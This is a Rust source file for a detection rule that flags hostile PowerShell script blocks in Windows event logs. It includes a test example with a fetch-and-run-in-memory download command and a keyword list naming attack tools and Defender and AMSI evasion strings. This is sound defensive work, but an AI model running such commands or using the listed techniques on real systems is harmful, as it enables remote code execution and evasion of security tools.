//! PowerShell that fetches, decodes or disarms, as its own log of script blocks shows it (event 4104).

use abate_model::{Body, Claim, EntityKind, Filter, Finding, Severity, Table, Text};
use serde_json::json;

use super::account::{json, texts};
use super::acts::{Act, Acts, Words};
use crate::examples::event;
use crate::{Context, Detection, Example, Tactic};

/// See the module.
pub static DETECTION: Detection = Detection {
    id: "powershell-script",
    title: Text::fixed("Hostile PowerShell script", "攻撃的な PowerShell スクリプト"),
    claims: &[Claim::HostileCommand],
    techniques: &["T1059.001"],
    tactic: Tactic::Execution,
    severity: Severity::High,
    needs: &[Table::EventLogActivity],
    innocent: INNOCENT,
    examples: &[
        Example::hit(
            "a script block fetches code and runs it from memory",
            "スクリプトブロックがコードを取得しメモリ上で実行する",
            || {
                let script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')";
                vec![event(1, "Microsoft-Windows-PowerShell/Operational", "4104", &json!({"ScriptBlockText": script}))]
            },
            &[Claim::HostileCommand],
        ),
        Example::miss("a script block that lists services", "サービスを列挙するスクリプトブロック", || {
            vec![event(
                1,
                "Microsoft-Windows-PowerShell/Operational",
                "4104",
                &json!({"ScriptBlockText": "Get-Service | Sort-Object Status"}),
            )]
        }),
    ],
    run,
};

const INNOCENT: Text = Text::fixed(
    "Installers such as Chocolatey's fetch and run code, too; look at where it came from.",
    "Chocolatey などのインストーラーもコードを取得して実行する。取得元を確認する。",
);
static WORDS: Words = Words {
    title: Text::fixed("on {h}, PowerShell ran a hostile script: {t}", "{h}で PowerShell が攻撃的なスクリプトを実行した: {t}"),
    innocent: INNOCENT,
};

fn run(ctx: &Context<'_>) -> Vec<Finding> {
    let mut acts = Acts::default();
    ctx.evidence.each(&Filter::table(Table::EventLogActivity), &mut |row| {
        let Body::Event(event) = &row.body else { return };
        if event.code.as_deref() != Some("4104") {
            return;
        }
        let data = json(event.data.as_deref());
        let Some(script) = texts(&data, "ScriptBlockText").into_iter().next() else { return };
        if is_hostile(&script.to_ascii_lowercase()) {
            let act = Act::new("script", Severity::High, &script).naming(EntityKind::User, event.user.as_deref());
            acts.add(ctx, row, event.host.as_deref(), act);
        }
    });
    acts.findings(Claim::HostileCommand, &|_| ("T1059.001", &WORDS))
}

fn is_hostile(script: &str) -> bool {
    let runs = ["iex", "invoke-expression", "[reflection.assembly]::load", "start-process"].iter().any(|part| script.contains(part));
    let fetches = ["downloadstring", "downloaddata", "invoke-webrequest", "invoke-restmethod"].iter().any(|part| script.contains(part));
    let decodes = script.contains("frombase64string");
    let known = [
        "invoke-mimikatz",
        "invoke-shellcode",
        "amsiutils",
        "amsiinitfailed",
        "powersploit",
        "invoke-bloodhound",
        "set-mppreference -disable",
    ];
    (runs && (fetches || decodes)) || known.iter().any(|part| script.contains(part)) || script.contains("virtualalloc")
}
